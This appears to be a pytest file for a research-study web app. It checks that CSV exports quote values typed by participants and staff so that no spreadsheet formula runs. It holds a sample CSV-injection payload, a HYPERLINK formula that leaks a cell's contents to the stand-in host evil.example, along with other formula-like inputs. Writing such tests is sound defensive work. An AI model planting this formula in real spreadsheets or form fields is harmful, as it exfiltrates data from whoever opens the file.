"""Exports are safe to open in a spreadsheet: what participants, platforms and staff typed never runs as a formula."""

import csv
import io
import re
from pathlib import Path

from app.extensions import db
from app.models.studies import Study
from app.services import studies
from app.services.scoring.perframe import FrameLine, FrameTable
from app.spreadsheet import FORMULA_STARTS, NUMBER
from tests.app.access.studies import build_study

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
JSON = {"Accept": "application/json"}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_safe(rows: list[list[str]], *typed: str) -> None:
    """No cell starts a formula (numbers aside), and each typed value is there with its quote."""
    flat = [cell for row in rows for cell in row]
    assert [c for c in flat if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)] == []
    for value in typed:
        assert "'" + value in flat, (value, rows[:3])


def test_values_from_the_browser_and_the_platform_reach_every_export_quoted(app, tmp_path):
    with app.app_context():
        ids = build_study(tmp_path, activities=("@cooking", "hotel"), frames=2, per_activity=1, participants=0,
                          conditions=[{"name": "-c1"}, {"name": "-c2"}], open_link={}, completion={"code": "-DONE"})  # fmt: skip
        token = db.session.get(Study, ids["study"]).open_link_token
    browser = app.test_client()
    params = {"external_id": "-PID1", "SESSION_ID": "-sess"}
    assert browser.get(f"/s/o/{token}", query_string=params, headers={"User-Agent": HYPERLINK}).status_code == 200
    assert browser.post(f"/s/o/{token}", data=params, headers={"User-Agent": HYPERLINK}).status_code == 302
    browser.post("/s/consent", data={"decision": "agree"})
    browser.post("/s/start")
    environment = {"time_zone": "-1+cmd", "pixel_ratio": 1.5, "screen": {"width": 1920, "height": 1080}}
    assert browser.post("/s/api/environment", json=environment, headers={**JSON, "User-Agent": HYPERLINK}).status_code == 200
    answer = {"clicks": [{"x": 3.0, "y": 4.0, "rt_ms": 500.0}], "events": [{"kind": "blur", "t_ms": -2.5}]}
    state = browser.get("/s/api/current", headers=JSON).get_json()
    while state["trial"] is not None:  # both trials, one per activity
        state = browser.post(state["trial"]["submit_url"], json=answer, headers=JSON).get_json()

    with app.app_context():
        study = db.session.get(Study, ids["study"])
        participants = cells(studies.export_csv(study, "participants"))
        assert_safe(participants, HYPERLINK, "-PID1", "-1+cmd", "-c1")
        row = dict(zip(participants[0], participants[1], strict=True))
        assert (row["pixel_ratio"], row["screen_width"]) == ("1.5", "1920")  # numbers stay numbers
        for table in ("trials", "clicks", "events"):
            assert_safe(cells(studies.export_csv(study, table)), "-PID1", "-c1", *(["@cooking"] * (table == "trials")))
        events = cells(studies.export_csv(study, "events"))
        assert dict(zip(events[0], events[1], strict=True))["client_ms"] == "-2.5"  # a negative number is a number
        manifest = dict(studies.mask_files(study))["manifest.csv"].decode()
        assert_safe(cells(manifest), "@cooking")


def test_score_tables_and_every_other_csv_go_through_the_one_writer():
    table = FrameTable(activity="=act", activities=["=act"], rows=[("+k", "=run", "run")],
                       lines=[FrameLine(frame_id=1, label="@frame", scores={"+k": (0.5, 0.25, None)})])  # fmt: skip
    assert_safe(cells(table.to_csv()), "=act", "@frame", "+k best F")
    app_root = Path(__file__).resolve().parents[2] / "app"
    writers = [p.relative_to(app_root).as_posix() for p in app_root.rglob("*.py") if re.search(r"^import csv$", p.read_text(), re.M)]
    assert writers == ["spreadsheet.py"]
